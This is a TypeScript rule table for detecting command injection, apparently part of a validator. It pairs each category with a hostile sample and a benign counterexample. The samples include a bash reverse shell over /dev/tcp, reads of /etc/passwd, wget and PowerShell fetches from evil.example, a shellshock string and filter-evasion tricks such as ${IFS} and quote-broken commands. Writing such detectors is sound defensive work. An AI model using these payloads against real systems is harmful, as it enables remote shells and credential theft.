import { rulesOf } from './rules.ts'

export const rule = rulesOf('command', {
  chain: [1, 5, 'a separator of a shell, then a command', '; cat /etc/hosts', 'the cat; it sleeps'],
  substitution: [1, 5, 'a command in a substitution', '$(whoami)', '$(document)'],
  backtick: [1, 5, 'a command in backticks', '`id`', 'use `id` for it'],
  shell: [1, 5, 'a shell that is given a command', '/bin/bash -c "id"', 'bash is a shell'],
  network: [1, 5, 'a shell over the network', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev tcp'],
  sensitive: [1, 5, 'a command that reads system files', 'cat /etc/passwd', 'cat food'],
  invocation: [1, 5, 'a command line as the value', 'wget http://evil.example/x', 'wget is a tool'],
  hidden: [1, 5, 'a command broken by quotes, variables or globs', "c'a't /e?c/h*", "it's a cat"],
  spaces: [1, 5, "a shell's variable in place of a space", 'cat${IFS}x', 'the IFS variable'],
  brace: [1, 5, 'a command in a brace list', '{cat,/etc/hosts}', '{a,b}'],
  windows: [1, 5, 'a command of Windows', '& dir c:\\', 'the dir is here'],
  powershell: [1, 5, 'a cmdlet of PowerShell that runs or fetches', 'Invoke-Expression (iwr http://evil.example)', 'an expression'],
  loop: [1, 5, 'a FOR or IF of cmd.exe', 'FOR /F %a IN (the list of files that you made for it) DO echo x', 'for a in b'],
  function: [1, 5, 'a function definition of a shell: shellshock, fork bombs', '() { :;}; /bin/sh', 'f() { return }'],
  redirect: [1, 5, 'output into a system directory', '>/tmp/x', 'a > b'],
  option: [1, 5, 'an option that makes a program run or write something', '-oProxyCommand=id', '-o name'],
  dot: [1, 5, 'a command of a database shell behind a separator', '1;.shell id', '1; .5'],
  history: [1, 5, "a shell's history expansion", '!-1!-2', '!-1'],
  tilde: [2, 5, 'a tilde expansion', '~+', '~user'],
  alias: [1, 5, 'an alias for a command', "alias a='curl'", 'an alias'],
  wrapper: [1, 5, 'a command that starts another', 'nohup whoami', 'no time left'],
  single: [2, 5, 'a command as the value', 'ls -la', 'list']
})
